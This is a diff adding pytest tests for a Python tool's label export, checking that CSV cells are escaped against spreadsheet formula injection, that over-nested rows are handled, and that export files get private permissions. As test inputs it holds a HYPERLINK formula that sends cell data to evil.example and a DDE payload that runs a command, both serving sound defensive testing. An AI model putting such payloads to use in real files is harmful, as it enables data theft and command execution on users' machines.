@@ -5,15 +5,29 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import json
+import logging
+import os
+import stat
 import subprocess
 import sys
+from pathlib import Path
+from typing import Any
 
 import orjson
 import pytest
 
 from streamloop.errors import InvalidInput
-from streamloop.store import Store
-from streamloop.transfer import EXPORT_FIELDS, export_labels, read_rows, write_jsonl
+from streamloop.store import NewEvent, NewLabel, Store
+from streamloop.transfer import (
+    EXPORT_FIELDS,
+    EXPORT_FILE_MODE,
+    export_labels,
+    open_export,
+    read_rows,
+    write_csv,
+    write_jsonl,
+)
 from support import running, ticket
 
 LABELS = ["billing", "bug", "other"]
@@ -129,3 +143,157 @@ def test_a_bad_import_row_is_refused_with_its_line_number(line):
     assert next(rows).event_id == "a"
     with pytest.raises(InvalidInput, match=r"^line 3: "):
         next(rows)
+
+
+# Spreadsheet-safe CSV.
+
+
+def export_row(**cells: Any) -> dict[str, Any]:
+    row: dict[str, Any] = dict.fromkeys(EXPORT_FIELDS)
+    row |= {"data": {"text": "hello"}, "model_version": 1, "drawn_at_random": False}
+    return row | cells
+
+
+def read_csv(blob: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(blob.decode())))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_quote(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
+    out = io.BytesIO()
+    row = export_row(
+        label_id=formula, event_id=formula, label=formula, annotator=formula, predicted=formula
+    )
+
+    assert write_csv([row], out) == 1
+
+    (cells,) = read_csv(out.getvalue())
+    for name in ("label_id", "event_id", "label", "annotator", "predicted"):
+        assert cells[name] == "'" + formula
+
+
+def test_csv_leaves_numbers_and_harmless_text_as_they_are() -> None:
+    out = io.BytesIO()
+    # A number written as a number is data, not a formula someone typed: model_version is the
+    # only one an export has, never negative in practice, but a negative one stays a number.
+    row = export_row(label="billing", event_id="e'1", model_version=-3, drawn_at_random=True)
+    row["data"] = {"text": "=1+1", "amount": -2}
+
+    write_csv([row], out)
+
+    (cells,) = read_csv(out.getvalue())
+    assert (cells["label"], cells["event_id"]) == ("billing", "e'1")
+    assert (cells["model_version"], cells["drawn_at_random"]) == ("-3", "True")
+    # The data cell is JSON text, an object: it starts with "{", and is exact.
+    assert orjson.loads(cells["data"]) == {"text": "=1+1", "amount": -2}
+
+
+def test_jsonl_export_keeps_formula_like_text_exact() -> None:
+    out = io.BytesIO()
+    row = export_row(label="=cmd|' /C calc'!A0", event_id="-1")
+
+    write_jsonl([row], out)
+
+    assert orjson.loads(out.getvalue()) == row
+
+
+# Export files and rows the encoder cannot write.
+
+
+def nested(depth: int) -> Any:
+    value: Any = "bottom"
+    for _ in range(depth):
+        value = {"deeper": value}
+    return value
+
+
+def deepest_storable() -> dict[str, Any]:
+    """Event data as deep as the store could keep it before event data had a depth limit:
+    the deepest orjson writes (the store's JSON encoder), though not inside an export row."""
+    depth = 1
+    while True:
+        try:
+            orjson.dumps({"text": "deep", "nested": nested(depth + 1)})
+        except orjson.JSONEncodeError:
+            return {"text": "deep", "nested": nested(depth)}
+        depth += 1
+
+
+@pytest.mark.parametrize("write", [write_jsonl, write_csv])
+def test_an_event_nested_too_deep_for_orjson_is_exported_with_the_rest(
+    tmp_path: Path, write: Any
+) -> None:
+    deep = deepest_storable()
+    with pytest.raises(orjson.JSONEncodeError):
+        orjson.dumps({"data": deep})  # what crashed the export
+    store = Store(f"sqlite:///{tmp_path / 'streamloop.db'}")
+    try:
+        project = store.create_project(
+            name="tickets",
+            labels=LABELS,
+            input="text",
+            model="logistic_regression",
+            strategy="margin",
+            exploration=0.05,
+            lease_seconds=120.0,
+        )
+        data = [{"text": "refund please"}, deep, {"text": "it crashed"}]
+        store.insert_events(
+            project.id, [NewEvent(f"e{n}", d, "queued", 1.0) for n, d in enumerate(data)]
+        )
+        labels = [NewLabel(f"l{n}", LABELS[n], "production", event_id=f"e{n}") for n in range(3)]
+        store.commit_labels(project.id, labels, 0)
+        out = io.BytesIO()
+
+        assert write(export_labels(store, "tickets"), out) == 3
+    finally:
+        store.close()
+
+    if write is write_jsonl:
+        rows = [json.loads(line) for line in out.getvalue().splitlines()]
+        assert [row["data"] for row in rows] == data
+    else:
+        cells = read_csv(out.getvalue())
+        assert [json.loads(row["data"]) for row in cells] == data
+    assert "deep" in out.getvalue().decode()
+
+
+def test_a_row_no_encoder_can_write_is_left_out_and_named(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    rows = [
+        export_row(label_id="l1"),
+        export_row(label_id="l2", event_id="e2", data={"text": "x", "nested": nested(5_000)}),
+        export_row(label_id="l3"),
+    ]
+    out = io.BytesIO()
+
+    with caplog.at_level(logging.ERROR, logger="streamloop.transfer"):
+        assert write_jsonl(rows, out) == 2
+
+    assert [orjson.loads(line)["label_id"] for line in out.getvalue().splitlines()] == ["l1", "l3"]
+    assert "label 'l2' of event 'e2' left out of the export" in caplog.text
+
+
+def test_a_new_export_file_is_private_to_its_owner(tmp_path: Path) -> None:
+    previous = os.umask(0o022)
+    try:
+        with open_export(tmp_path / "labels.jsonl") as out:
+            out.write(b"{}\n")
+    finally:
+        os.umask(previous)
+
+    assert stat.S_IMODE((tmp_path / "labels.jsonl").stat().st_mode) == EXPORT_FILE_MODE == 0o600
+
+
+def test_an_existing_export_file_is_overwritten_and_keeps_its_mode(tmp_path: Path) -> None:
+    existing = tmp_path / "shared.jsonl"
+    existing.write_bytes(b"an older, longer export\n")
+    existing.chmod(0o640)
+
+    with open_export(existing) as out:
+        out.write(b"{}\n")
+
+    assert existing.read_bytes() == b"{}\n"
+    assert stat.S_IMODE(existing.stat().st_mode) == 0o640
